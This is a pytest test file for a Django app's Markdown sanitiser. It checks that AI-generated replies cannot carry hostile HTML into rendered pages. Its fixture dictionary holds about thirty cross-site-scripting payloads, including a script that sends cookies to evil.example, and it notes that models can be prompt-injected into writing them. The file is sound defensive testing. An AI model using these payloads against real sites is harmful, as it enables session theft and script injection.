"""Markdown from the model becomes sanitised HTML: sessions_app/markdown.py."""

import pytest
from django.template import Context, Template
from django.utils.safestring import SafeString

from sessions_app.markdown import ALLOWED_TAGS, markdown_to_text, render_markdown
from sessions_app.tests.html_checks import elements, unsafe_bits

# Replies a model could be tricked into writing (prompt injection), one per attack.
HOSTILE_REPLIES = {
    "script tag": "Hello <script>alert('x')</script> there",
    "script block": "<script>\ndocument.location='https://evil.example/?c='+document.cookie\n</script>",
    "img onerror": '<img src=x onerror="alert(1)">',
    "svg onload": "<svg onload=alert(1)><circle r=5 /></svg>",
    "svg in markdown list": "- <svg/onload=alert(1)>",
    "javascript link": "[click me](javascript:alert(1))",
    "javascript link, mixed case": "[click](JaVaScRiPt:alert(1))",
    "javascript link, entity tab": "[click](java&#x09;script:alert(1))",
    "javascript link, encoded": "[click](javascript&#58;alert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "javascript reference link": "[click][x]\n\n[x]: javascript:alert(1)",
    "vbscript link": "[click](vbscript:msgbox(1))",
    "data link": "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data image": "![pixel](data:image/png;base64,iVBORw0KGgo=)",
    "remote image": "![tracker](https://evil.example/pixel.png)",
    "image with handler in title": '![a](https://evil.example/a.png "x" onerror="alert(1)")',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "html in code block": "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    "html in inline code": "Use `<img src=x onerror=alert(1)>` carefully",
    "object and embed": '<object data="https://evil.example/x.swf"></object><embed src="x">',
    "style tag": "<style>body{display:none}</style>",
    "inline style": '<p style="position:fixed;inset:0">cover</p>',
    "form": '<form action="https://evil.example/"><input name=password></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base tag": '<base href="https://evil.example/">',
    "link with onclick via attribute syntax": '[x](https://ok.example/ "t" onclick="alert(1)")',
    "html comment": "<!-- <script>alert(1)</script> -->visible",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "nested quotes": '<a href="javascript:alert(1)">x</a>',
    "table with script": "| a |\n|---|\n| <script>alert(1)</script> |",
}


@pytest.mark.parametrize("reply", HOSTILE_REPLIES.values(), ids=HOSTILE_REPLIES.keys())
def test_nothing_hostile_survives(reply):
    html = render_markdown(reply)
    assert unsafe_bits(html) == []
    found = elements(html)
    assert {tag for tag, _ in found} <= ALLOWED_TAGS
    for needle in ("<script", "<iframe", "<svg", "<img", "<style", "<object", "<embed", "<form"):
        assert needle not in html.lower()
    for tag, attrs in found:
        assert set(attrs) <= {"href", "title", "target", "rel", "start", "class"}, (tag, attrs)
        if "href" in attrs:
            assert attrs["href"].startswith(("https://", "http://", "mailto:")), attrs


def test_raw_html_is_shown_as_text_not_markup():
    html = render_markdown("Hello <b>bold</b> <script>alert(1)</script>")
    assert "&lt;b&gt;bold&lt;/b&gt;" in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_code_blocks_keep_their_text_escaped():
    html = render_markdown("```html\n<script>alert(1)</script>\n```")
    assert html.startswith("<pre><code>")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_images_become_plain_links_with_their_alt_text():
    html = render_markdown("See ![a *calm* room](https://example.com/room.png).")
    assert "<img" not in html
    assert (
        '<a href="https://example.com/room.png" target="_blank" rel="nofollow noopener">'
        "a calm room</a>" in html
    )


def test_images_with_unsafe_urls_become_their_alt_text_only():
    for url in ("data:image/png;base64,AAAA", "/relative.png", "javascript:alert(1)"):
        html = render_markdown(f"![the alt]({url})")
        assert "<a" not in html and "<img" not in html
        assert "the alt" in html


def test_links_open_safely():
    html = render_markdown('[docs](https://example.com/a?b=1&c=2 "The docs")')
    assert html == (
        '<p><a href="https://example.com/a?b=1&amp;c=2" title="The docs" target="_blank" '
        'rel="nofollow noopener">docs</a></p>\n'
    )


def test_relative_links_lose_their_target():
    html = render_markdown("[log out](/accounts/logout/)")
    assert "href" not in html


def test_ordinary_markdown_renders():
    html = render_markdown(
        "# Plan\n\n1. **Breathe** slowly\n2. Walk *outside*\n\n> note\n\n"
        "| Day | Minutes |\n|:----|--------:|\n| Mon | 10 |\n\n~~old~~ `code`\n\n---\n"
    )
    for fragment in (
        "<h1>Plan</h1>",
        "<ol>",
        "<strong>Breathe</strong>",
        "<em>outside</em>",
        "<blockquote>",
        "<table>",
        '<th class="align-left">Day</th>',
        '<td class="align-right">10</td>',
        "<s>old</s>",
        "<code>code</code>",
        "<hr>",
    ):
        assert fragment in html
    assert "style=" not in html


def test_ordered_list_start_is_kept():
    assert '<ol start="3">' in render_markdown("3. three\n4. four")


def test_result_is_safe_string_and_empty_input_is_empty():
    assert isinstance(render_markdown("x"), SafeString)
    assert render_markdown("") == ""
    assert render_markdown(None) == ""


def test_plain_text_excerpt_has_no_markup():
    text = markdown_to_text("# Plan\n\n**Breathe** <script>x</script> [link](https://a.example)")
    assert text == "Plan Breathe <script>x</script> link"
    assert markdown_to_text("word " * 100, 30).endswith("…")
    assert len(markdown_to_text("word " * 100, 30)) <= 30
    assert markdown_to_text("") == ""


def test_template_filters():
    template = Template(
        "{% load stepwise %}{{ reply|markdown }}|{{ reply|markdown_excerpt:20 }}|{{ s|goal_line }}"
    )

    class Card:
        goal_tags = ["deep rest"]
        goal_text = "  sleep\nbetter  "

    out = template.render(Context({"reply": "**Hi** <b>x</b>", "s": Card()}))
    html, excerpt, goal = out.split("|")
    assert html == "<p><strong>Hi</strong> &lt;b&gt;x&lt;/b&gt;</p>\n"
    # The excerpt is plain text, escaped by the template like any text.
    assert excerpt == "Hi &lt;b&gt;x&lt;/b&gt;"
    assert goal == "deep rest; sleep better"


@pytest.mark.django_db
@pytest.mark.parametrize("viewer", ["visitor", "owner"])
def test_hostile_replies_are_harmless_on_the_session_page_and_in_the_gallery(client, user, viewer):
    from django.urls import reverse

    from sessions_app.tests.public_builders import build_session

    turns = [("assistant", reply) for reply in HOSTILE_REPLIES.values()]
    turns.append(("user", "<script>alert('me')</script><img src=x onerror=alert(1)>"))
    session = build_session(owner=user, title="<svg onload=alert(1)>", turns=turns)
    if viewer == "owner":
        client.force_login(user)
    for url in (session.get_absolute_url(), reverse("sessions:gallery")):
        response = client.get(url)
        assert response.status_code == 200
        assert unsafe_bits(response.text, page=True) == [], url
    page = client.get(session.get_absolute_url()).text
    # Rendered, not dropped: the coach's Markdown shows, people's text is escaped.
    assert "&lt;script&gt;alert(&#x27;me&#x27;)&lt;/script&gt;" in page
    link = '<a href="https://evil.example/pixel.png" target="_blank" rel="nofollow noopener">'
    assert link in page
